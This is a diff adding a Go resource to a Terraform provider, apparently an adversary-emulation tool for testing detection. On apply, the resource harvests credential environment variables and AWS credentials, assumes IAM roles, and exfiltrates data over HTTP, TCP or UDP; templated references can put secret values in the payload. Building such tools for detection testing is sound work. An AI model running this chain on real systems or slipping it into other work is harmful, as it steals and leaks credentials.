@@ -0,0 +1,648 @@
+// Copyright (c) Datadog, Inc.
+// SPDX-License-Identifier: Apache-2.0
+
+package provider
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/url"
+	"regexp"
+	"slices"
+	"sort"
+	"strings"
+	"time"
+
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/config"
+	"github.com/aws/aws-sdk-go-v2/credentials"
+	"github.com/aws/aws-sdk-go-v2/service/sts"
+	"github.com/datadog/terraform-provider-terrapwner/internal/utils"
+	"github.com/hashicorp/terraform-plugin-framework/resource"
+	"github.com/hashicorp/terraform-plugin-framework/resource/schema"
+	"github.com/hashicorp/terraform-plugin-framework/types"
+	"github.com/hashicorp/terraform-plugin-log/tflog"
+)
+
+// Ensure the implementation satisfies the expected interfaces.
+var (
+	_ resource.Resource               = &TerrapwnerScenarioResource{}
+	_ resource.ResourceWithConfigure  = &TerrapwnerScenarioResource{}
+	_ resource.ResourceWithModifyPlan = &TerrapwnerScenarioResource{}
+)
+
+// Actions of the scenario steps.
+const (
+	scenarioActionHarvest    = "harvest_credentials"
+	scenarioActionAssumeRole = "assume_role"
+	scenarioActionExfil      = "exfil"
+)
+
+// Conditions on the outcomes of the prior steps gating a step.
+const (
+	scenarioWhenSuccess = "on_success"
+	scenarioWhenFailure = "on_failure"
+	scenarioWhenAlways  = "always"
+)
+
+// Outcomes of the scenario steps.
+const (
+	scenarioOutcomeSuccess = "success"
+	scenarioOutcomeFailure = "failure"
+	scenarioOutcomeSkipped = "skipped"
+)
+
+// defaultScenarioSessionName is the session name of the assume_role steps.
+const defaultScenarioSessionName = "terrapwner-scenario"
+
+var (
+	scenarioActions  = []string{scenarioActionHarvest, scenarioActionAssumeRole, scenarioActionExfil}
+	scenarioWhens    = []string{scenarioWhenSuccess, scenarioWhenFailure, scenarioWhenAlways}
+	scenarioChannels = []string{"http", "tcp", "udp"}
+)
+
+// scenarioCredentialNameRe matches the names of environment variables likely
+// holding credentials.
+var scenarioCredentialNameRe = regexp.MustCompile(`(?i)(TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIAL|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY)`)
+
+// scenarioStepNameRe matches the names of the steps.
+var scenarioStepNameRe = regexp.MustCompile(`^[A-Za-z0-9_-]+$`)
+
+// NewTerrapwnerScenarioResource is a helper function to simplify the provider implementation.
+func NewTerrapwnerScenarioResource() resource.Resource {
+	return &TerrapwnerScenarioResource{}
+}
+
+// TerrapwnerScenarioResource is the resource implementation.
+type TerrapwnerScenarioResource struct {
+	snapshot *environmentSnapshot
+}
+
+// TerrapwnerScenarioResourceModel describes the resource data model.
+type TerrapwnerScenarioResourceModel struct {
+	ID        types.String                  `tfsdk:"id"`
+	Timeout   types.Int64                   `tfsdk:"timeout"`
+	Steps     []TerrapwnerScenarioStepModel `tfsdk:"step"`
+	Timeline  types.List                    `tfsdk:"timeline"`
+	Outcomes  types.Map                     `tfsdk:"outcomes"`
+	Completed types.Bool                    `tfsdk:"completed"`
+}
+
+// TerrapwnerScenarioStepModel describes a step block of the scenario.
+type TerrapwnerScenarioStepModel struct {
+	Name        types.String `tfsdk:"name"`
+	Action      types.String `tfsdk:"action"`
+	After       types.List   `tfsdk:"after"`
+	When        types.String `tfsdk:"when"`
+	RoleARN     types.String `tfsdk:"role_arn"`
+	SessionName types.String `tfsdk:"session_name"`
+	Endpoint    types.String `tfsdk:"endpoint"`
+	Channel     types.String `tfsdk:"channel"`
+	Content     types.String `tfsdk:"content"`
+}
+
+// Configure adds the provider configured client to the resource.
+func (r *TerrapwnerScenarioResource) Configure(_ context.Context, req resource.ConfigureRequest, resp *resource.ConfigureResponse) {
+	r.snapshot = snapshotFromProviderData(req.ProviderData, &resp.Diagnostics)
+}
+
+// Metadata returns the resource type name.
+func (r *TerrapwnerScenarioResource) Metadata(_ context.Context, req resource.MetadataRequest, resp *resource.MetadataResponse) {
+	resp.TypeName = req.ProviderTypeName + "_scenario"
+}
+
+// Schema defines the schema for the resource.
+func (r *TerrapwnerScenarioResource) Schema(_ context.Context, _ resource.SchemaRequest, resp *resource.SchemaResponse) {
+	resp.Schema = schema.Schema{
+		Description: "Executes an attack scenario as an ordered list of steps, e.g. harvest credentials, assume a role with " +
+			"them, then exfiltrate what was gathered, each step running depending on the outcomes of prior ones. The " +
+			"scenario runs when the resource is created and again whenever it is updated, and records a timeline of the " +
+			"steps. A failed step does not fail the apply: it is recorded, so the detection of the whole kill chain can " +
+			"be assessed. Harvested credential values are never stored in the state.",
+		Attributes: map[string]schema.Attribute{
+			"id": schema.StringAttribute{
+				Description: "Random ID of the scenario run.",
+				Computed:    true,
+			},
+			"timeout": schema.Int64Attribute{
+				Description: "Timeout in seconds of each step (default: 10).",
+				Optional:    true,
+			},
+			"timeline": schema.ListAttribute{
+				Description: "Timeline of the steps, as `<time> <name> (<action>): <outcome> in <duration>: <detail>`.",
+				ElementType: types.StringType,
+				Computed:    true,
+			},
+			"outcomes": schema.MapAttribute{
+				Description: "Outcome of each step by name: success, failure or skipped.",
+				ElementType: types.StringType,
+				Computed:    true,
+			},
+			"completed": schema.BoolAttribute{
+				Description: "Whether every step succeeded.",
+				Computed:    true,
+			},
+		},
+		Blocks: map[string]schema.Block{
+			"step": schema.ListNestedBlock{
+				Description: "Step of the scenario, executed in order. At least one is required.",
+				NestedObject: schema.NestedBlockObject{
+					Attributes: map[string]schema.Attribute{
+						"name": schema.StringAttribute{
+							Description: "Unique name of the step, of letters, digits, dashes and underscores.",
+							Required:    true,
+						},
+						"action": schema.StringAttribute{
+							Description: "Action of the step: harvest_credentials collects the credential environment " +
+								"variables and the AWS credentials of the runner, assume_role assumes role_arn with the " +
+								"current AWS credentials and uses the role's from then on, and exfil sends content to " +
+								"endpoint.",
+							Required: true,
+						},
+						"after": schema.ListAttribute{
+							Description: "Names of the prior steps whose outcomes gate this one (default: the previous step). An " +
+								"empty list runs the step unconditionally unless when is on_failure.",
+							ElementType: types.StringType,
+							Optional:    true,
+						},
+						"when": schema.StringAttribute{
+							Description: "Condition on the outcomes of the after steps for this one to run: on_success when " +
+								"all succeeded, on_failure when any failed, or always (default: on_success). Steps that " +
+								"do not run are skipped.",
+							Optional: true,
+						},
+						"role_arn": schema.StringAttribute{
+							Description: "ARN of the role to assume in assume_role steps.",
+							Optional:    true,
+						},
+						"session_name": schema.StringAttribute{
+							Description: "Session name of assume_role steps (default: terrapwner-scenario).",
+							Optional:    true,
+						},
+						"endpoint": schema.StringAttribute{
+							Description: "Destination of exfil steps: a URL for the http channel, or host:port for tcp and udp.",
+							Optional:    true,
+						},
+						"channel": schema.StringAttribute{
+							Description: "Channel of exfil steps: http (a POST request), tcp or udp (default: http).",
+							Optional:    true,
+						},
+						"content": schema.StringAttribute{
+							Description: "Content of exfil steps (default: a JSON summary of what the prior steps gathered, " +
+								"i.e. the names of the harvested credentials and the assumed roles, without values). " +
+								"Supports `{{secret:<handle>}}` and `{{env:<NAME>}}` references.",
+							Optional:  true,
+							Sensitive: true,
+						},
+					},
+				},
+			},
+		},
+	}
+}
+
+// ModifyPlan validates the configuration once it is known.
+func (r *TerrapwnerScenarioResource) ModifyPlan(ctx context.Context, req resource.ModifyPlanRequest, resp *resource.ModifyPlanResponse) {
+	// Nothing to validate when destroying
+	if req.Plan.Raw.IsNull() {
+		return
+	}
+
+	var data TerrapwnerScenarioResourceModel
+	resp.Diagnostics.Append(req.Config.Get(ctx, &data)...)
+	if resp.Diagnostics.HasError() {
+		return
+	}
+
+	if len(data.Steps) == 0 {
+		resp.Diagnostics.AddError("Invalid configuration", "at least one step block is required")
+		return
+	}
+	if !data.Timeout.IsNull() && !data.Timeout.IsUnknown() && data.Timeout.ValueInt64() <= 0 {
+		resp.Diagnostics.AddError(
+			"Invalid configuration",
+			fmt.Sprintf("timeout must be positive, got: %d", data.Timeout.ValueInt64()),
+		)
+	}
+
+	seen := map[string]bool{}
+	for _, step := range data.Steps {
+		for _, err := range validateScenarioStep(step, seen) {
+			resp.Diagnostics.AddError("Invalid configuration", err.Error())
+		}
+		seen[step.Name.ValueString()] = true
+	}
+}
+
+// validateScenarioStep returns the errors of the known attributes of a step,
+// given the names of the steps before it.
+func validateScenarioStep(step TerrapwnerScenarioStepModel, prior map[string]bool) []error {
+	var errs []error
+	name := step.Name.ValueString()
+	if !step.Name.IsUnknown() {
+		switch {
+		case !scenarioStepNameRe.MatchString(name):
+			errs = append(errs, fmt.Errorf("step names must only contain letters, digits, dashes and underscores, got: %q", name))
+		case prior[name]:
+			errs = append(errs, fmt.Errorf("step names must be unique, got %s twice", name))
+		}
+	}
+	if !step.When.IsNull() && !step.When.IsUnknown() && !slices.Contains(scenarioWhens, step.When.ValueString()) {
+		errs = append(errs, fmt.Errorf("step %s: when must be one of on_success, on_failure or always, got: %s", name, step.When.ValueString()))
+	}
+	for _, after := range knownStringItems(step.After) {
+		if !prior[after] {
+			errs = append(errs, fmt.Errorf("step %s: after must only list prior steps, got: %s", name, after))
+		}
+	}
+
+	if step.Action.IsUnknown() {
+		return errs
+	}
+	action := step.Action.ValueString()
+	if !slices.Contains(scenarioActions, action) {
+		return append(errs, fmt.Errorf("step %s: action must be one of harvest_credentials, assume_role or exfil, got: %s", name, action))
+	}
+
+	if action != scenarioActionAssumeRole && (!step.RoleARN.IsNull() || !step.SessionName.IsNull()) {
+		errs = append(errs, fmt.Errorf("step %s: role_arn and session_name are only supported in assume_role steps", name))
+	}
+	if action == scenarioActionAssumeRole && step.RoleARN.IsNull() {
+		errs = append(errs, fmt.Errorf("step %s: role_arn is required in assume_role steps", name))
+	}
+	if action != scenarioActionExfil && (!step.Endpoint.IsNull() || !step.Channel.IsNull() || !step.Content.IsNull()) {
+		errs = append(errs, fmt.Errorf("step %s: endpoint, channel and content are only supported in exfil steps", name))
+	}
+	if action != scenarioActionExfil {
+		return errs
+	}
+	if step.Endpoint.IsNull() {
+		return append(errs, fmt.Errorf("step %s: endpoint is required in exfil steps", name))
+	}
+	channel := step.Channel.ValueString()
+	if step.Channel.IsNull() {
+		channel = "http"
+	}
+	if !step.Channel.IsUnknown() && !slices.Contains(scenarioChannels, channel) {
+		return append(errs, fmt.Errorf("step %s: channel must be one of http, tcp or udp, got: %s", name, channel))
+	}
+	if step.Endpoint.IsUnknown() || step.Channel.IsUnknown() {
+		return errs
+	}
+	endpoint := step.Endpoint.ValueString()
+	if channel == "http" {
+		if u, err := url.Parse(endpoint); err != nil || (u.Scheme != "https" && u.Scheme != "http") || u.Host == "" {
+			errs = append(errs, fmt.Errorf("step %s: endpoint must be an HTTP or HTTPS URL with the http channel, got: %s", name, utils.RedactURL(endpoint)))
+		}
+	} else if _, err := parseSocketAddress(endpoint); err != nil {
+		errs = append(errs, fmt.Errorf("step %s: endpoint must be host:port with the %s channel, got: %s", name, channel, endpoint))
+	}
+	return errs
+}
+
+// Create runs the scenario.
+func (r *TerrapwnerScenarioResource) Create(ctx context.Context, req resource.CreateRequest, resp *resource.CreateResponse) {
+	var plan TerrapwnerScenarioResourceModel
+
+	// Read Terraform plan data into the model
+	resp.Diagnostics.Append(req.Plan.Get(ctx, &plan)...)
+	if resp.Diagnostics.HasError() {
+		return
+	}
+
+	r.run(ctx, &plan)
+
+	// Save data into Terraform state
+	resp.Diagnostics.Append(resp.State.Set(ctx, &plan)...)
+}
+
+// Read keeps the state, the scenario only running on create and update.
+func (r *TerrapwnerScenarioResource) Read(_ context.Context, _ resource.ReadRequest, _ *resource.ReadResponse) {
+	// Nothing to refresh
+}
+
+// Update runs the updated scenario.
+func (r *TerrapwnerScenarioResource) Update(ctx context.Context, req resource.UpdateRequest, resp *resource.UpdateResponse) {
+	var plan TerrapwnerScenarioResourceModel
+
+	// Read Terraform plan data into the model
+	resp.Diagnostics.Append(req.Plan.Get(ctx, &plan)...)
+	if resp.Diagnostics.HasError() {
+		return
+	}
+
+	r.run(ctx, &plan)
+
+	// Save data into Terraform state
+	resp.Diagnostics.Append(resp.State.Set(ctx, &plan)...)
+}
+
+// Delete removes the scenario from the state.
+func (r *TerrapwnerScenarioResource) Delete(_ context.Context, _ resource.DeleteRequest, _ *resource.DeleteResponse) {
+	// Nothing to clean up
+}
+
+// run executes the steps of the scenario and records their outcomes in the model.
+func (r *TerrapwnerScenarioResource) run(ctx context.Context, data *TerrapwnerScenarioResourceModel) {
+	timeout := int64(10)
+	if !data.Timeout.IsNull() {
+		timeout = data.Timeout.ValueInt64()
+	}
+
+	steps := make([]scenarioStep, len(data.Steps))
+	for i, step := range data.Steps {
+		after := knownStringItems(step.After)
+		if !step.After.IsNull() && after == nil {
+			after = []string{}
+		}
+		steps[i] = scenarioStep{
+			name:        step.Name.ValueString(),
+			action:      step.Action.ValueString(),
+			after:       after,
+			when:        step.When.ValueString(),
+			roleARN:     step.RoleARN.ValueString(),
+			sessionName: step.SessionName.ValueString(),
+			endpoint:    step.Endpoint.ValueString(),
+			channel:     step.Channel.ValueString(),
+			content:     step.Content.ValueString(),
+			hasContent:  !step.Content.IsNull(),
+		}
+	}
+
+	results := runScenario(ctx, newScenarioRun(r.snapshot, time.Duration(timeout)*time.Second), steps)
+
+	timeline := make([]string, len(results))
+	outcomes := map[string]string{}
+	completed := true
+	for i, result := range results {
+		timeline[i] = result.String()
+		outcomes[result.name] = result.outcome
+		completed = completed && result.outcome == scenarioOutcomeSuccess
+		tflog.Info(ctx, "Scenario step", map[string]any{"step": result.name, "action": result.action, "outcome": result.outcome})
+	}
+
+	data.ID = types.StringValue(exfilTransferID())
+	data.Timeline, _ = types.ListValueFrom(ctx, types.StringType, timeline)
+	data.Outcomes, _ = types.MapValueFrom(ctx, types.StringType, outcomes)
+	data.Completed = types.BoolValue(completed)
+}
+
+// scenarioStep is a step of a scenario, unset optional attributes being empty
+// but after, nil when unset.
+type scenarioStep struct {
+	name        string
+	action      string
+	after       []string
+	when        string
+	roleARN     string
+	sessionName string
+	endpoint    string
+	channel     string
+	content     string
+	hasContent  bool
+}
+
+// scenarioResult is the outcome of a step.
+type scenarioResult struct {
+	name     string
+	action   string
+	outcome  string
+	start    time.Time
+	duration time.Duration
+	detail   string
+}
+
+// String returns the timeline entry of the step.
+func (r scenarioResult) String() string {
+	return fmt.Sprintf("%s %s (%s): %s in %s: %s", r.start.UTC().Format(time.RFC3339), r.name, r.action, r.outcome,
+		r.duration.Round(time.Millisecond), r.detail)
+}
+
+// scenarioRun holds what the steps of a scenario gathered so far.
+type scenarioRun struct {
+	snapshot *environmentSnapshot
+	timeout  time.Duration
+
+	// awsConfig is the AWS configuration of the current identity, nil until
+	// credentials are harvested
+	awsConfig *aws.Config
+
+	// loot is what the steps gathered, exfiltrated by default: names, not values
+	loot map[string]any
+}
+
+// newScenarioRun returns a run of a scenario in the environment of the snapshot.
+func newScenarioRun(snapshot *environmentSnapshot, timeout time.Duration) *scenarioRun {
+	return &scenarioRun{snapshot: snapshot, timeout: timeout, loot: map[string]any{}}
+}
+
+// runScenario executes the steps in order, each one when its gating condition
+// on the outcomes of the prior ones holds, and returns their results.
+func runScenario(ctx context.Context, run *scenarioRun, steps []scenarioStep) []scenarioResult {
+	results := make([]scenarioResult, 0, len(steps))
+	outcomes := map[string]string{}
+	for i, step := range steps {
+		after := step.after
+		if after == nil && i > 0 {
+			after = []string{steps[i-1].name}
+		}
+		when := step.when
+		if when == "" {
+			when = scenarioWhenSuccess
+		}
+
+		result := scenarioResult{name: step.name, action: step.action, start: time.Now()}
+		if !scenarioGate(when, after, outcomes) {
+			result.outcome = scenarioOutcomeSkipped
+			result.detail = fmt.Sprintf("%s of %s not met", when, strings.Join(after, ", "))
+		} else {
+			detail, err := run.paced(ctx, step)
+			result.outcome = scenarioOutcomeSuccess
+			result.detail = detail
+			if err != nil {
+				result.outcome = scenarioOutcomeFailure
+				result.detail = err.Error()
+			}
+		}
+		result.duration = time.Since(result.start)
+		outcomes[step.name] = result.outcome
+		results = append(results, result)
+	}
+	return results
+}
+
+// scenarioGate returns whether a step gated by the condition on the outcomes
+// of the after steps runs. Steps after none run unless gated on a failure.
+func scenarioGate(when string, after []string, outcomes map[string]string) bool {
+	switch when {
+	case scenarioWhenAlways:
+		return true
+	case scenarioWhenFailure:
+		for _, name := range after {
+			if outcomes[name] == scenarioOutcomeFailure {
+				return true
+			}
+		}
+		return false
+	default:
+		for _, name := range after {
+			if outcomes[name] != scenarioOutcomeSuccess {
+				return false
+			}
+		}
+		return true
+	}
+}
+
+// paced performs a step once the rate limit of the provider allows it, the
+// timeout of the step applying from then on.
+func (r *scenarioRun) paced(ctx context.Context, step scenarioStep) (string, error) {
+	var limiter *actionLimiter
+	if r.snapshot != nil {
+		limiter = r.snapshot.limiter
+	}
+	if _, err := limiter.wait(ctx); err != nil {
+		return "", fmt.Errorf("interrupted waiting for the rate limit: %w", err)
+	}
+
+	stepCtx, cancel := context.WithTimeout(ctx, r.timeout)
+	defer cancel()
+	return r.execute(stepCtx, step)
+}
+
+// execute performs the action of a step and returns its detail.
+func (r *scenarioRun) execute(ctx context.Context, step scenarioStep) (string, error) {
+	switch step.action {
+	case scenarioActionHarvest:
+		return r.harvest(ctx)
+	case scenarioActionAssumeRole:
+		return r.assumeRole(ctx, step)
+	case scenarioActionExfil:
+		return r.exfil(ctx, step)
+	default:
+		return "", fmt.Errorf("unknown action %s", step.action)
+	}
+}
+
+// harvest collects the credential environment variables and the AWS
+// credentials of the runner. Only their names are kept in the loot: exfil
+// steps reference the values with {{env:<NAME>}}.
+func (r *scenarioRun) harvest(ctx context.Context) (string, error) {
+	var names []string
+	for name, value := range r.snapshot.Environ() {
+		if value != "" && scenarioCredentialNameRe.MatchString(name) {
+			names = append(names, name)
+		}
+	}
+	sort.Strings(names)
+	if len(names) > 0 {
+		r.loot["credentials"] = names
+	}
+	details := []string{fmt.Sprintf("%d credential variable(s)", len(names))}
+
+	cfg, err := config.LoadDefaultConfig(ctx)
+	if err == nil {
+		var creds aws.Credentials
+		if creds, err = cfg.Credentials.Retrieve(ctx); err == nil {
+			if cfg.Region == "" {
+				cfg.Region = "us-east-1"
+			}
+			r.awsConfig = &cfg
+			source := awsCredentialSource(creds.Source, r.snapshot.Getenv)
+			r.loot["aws_credentials"] = source
+			details = append(details, "AWS credentials from "+source)
+		}
+	}
+	if len(names) == 0 && r.awsConfig == nil {
+		return "", fmt.Errorf("no credentials found")
+	}
+	return strings.Join(details, ", "), nil
+}
+
+// assumeRole assumes the role of the step with the current AWS credentials and
+// uses the credentials of the role from then on.
+func (r *scenarioRun) assumeRole(ctx context.Context, step scenarioStep) (string, error) {
+	if r.awsConfig == nil {
+		return "", fmt.Errorf("no AWS credentials harvested")
+	}
+	sessionName := step.sessionName
+	if sessionName == "" {
+		sessionName = defaultScenarioSessionName
+	}
+
+	out, err := sts.NewFromConfig(*r.awsConfig).AssumeRole(ctx, &sts.AssumeRoleInput{
+		RoleArn:         aws.String(step.roleARN),
+		RoleSessionName: aws.String(sessionName),
+	})
+	if err != nil {
+		return "", fmt.Errorf("unable to assume %s: %w", step.roleARN, err)
+	}
+	if out.Credentials == nil {
+		return "", fmt.Errorf("unable to assume %s: no credentials returned", step.roleARN)
+	}
+
+	cfg := r.awsConfig.Copy()
+	cfg.Credentials = aws.NewCredentialsCache(credentials.NewStaticCredentialsProvider(
+		aws.ToString(out.Credentials.AccessKeyId), aws.ToString(out.Credentials.SecretAccessKey), aws.ToString(out.Credentials.SessionToken)))
+	r.awsConfig = &cfg
+
+	arn := step.roleARN
+	if out.AssumedRoleUser != nil && out.AssumedRoleUser.Arn != nil {
+		arn = *out.AssumedRoleUser.Arn
+	}
+	roles, _ := r.loot["assumed_roles"].([]string)
+	r.loot["assumed_roles"] = append(roles, arn)
+	return "assumed " + arn, nil
+}
+
+// exfil sends the content of the step, else the loot, over its channel.
+func (r *scenarioRun) exfil(ctx context.Context, step scenarioStep) (string, error) {
+	var content []byte
+	if step.hasContent {
+		resolved, _, err := resolveSecretReferences([]string{step.content}, r.snapshot.Secrets(), r.snapshot.Getenv)
+		if err != nil {
+			return "", err
+		}
+		content = []byte(resolved[0])
+	} else {
+		loot, err := json.Marshal(r.loot)
+		if err != nil {
+			return "", err
+		}
+		content = loot
+	}
+
+	switch step.channel {
+	case "tcp", "udp":
+		address, err := parseSocketAddress(step.endpoint)
+		if err != nil {
+			return "", err
+		}
+		chunks := [][]byte{content}
+		if step.channel == "udp" {
+			chunks = chunkBytes(content, maxUDPChunkSize)
+		}
+		sent, remoteAddress, err := sendSocketPayload(ctx, step.channel, address, nil, chunks, &exfilPacer{}, r.timeout)
+		if err != nil {
+			return "", fmt.Errorf("%s exfiltration failed after %d chunk(s): %w", step.channel, sent, err)
+		}
+		return fmt.Sprintf("%d bytes sent over %s to %s", len(content), step.channel, remoteAddress), nil
+	default:
+		resp, err := utils.HTTPRequest(ctx, http.MethodPost, step.endpoint, map[string]string{"Content-Type": "application/json"}, content, r.timeout)
+		if err != nil {
+			// The URL may hold a token, so only the cause is reported
+			var urlErr *url.Error
+			if errors.As(err, &urlErr) {
+				err = urlErr.Err
+			}
+			return "", fmt.Errorf("HTTP exfiltration failed: %w", err)
+		}
+		if resp.StatusCode < 200 || resp.StatusCode >= 300 {
+			return "", fmt.Errorf("HTTP exfiltration failed: HTTP %d", resp.StatusCode)
+		}
+		return fmt.Sprintf("%d bytes sent over HTTP, HTTP %d", len(content), resp.StatusCode), nil
+	}
+}